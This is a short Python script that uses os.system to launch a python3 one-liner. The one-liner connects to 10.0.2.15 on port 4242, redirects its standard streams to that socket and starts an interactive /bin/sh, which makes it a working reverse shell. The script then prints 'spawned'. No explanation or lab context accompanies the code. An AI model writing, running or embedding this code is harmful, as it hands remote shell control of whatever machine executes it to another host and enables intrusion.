import os
os.system("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.2.15\",4242));"
          "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
          "subprocess.call([\"/bin/sh\",\"-i\"])'")
print("spawned")
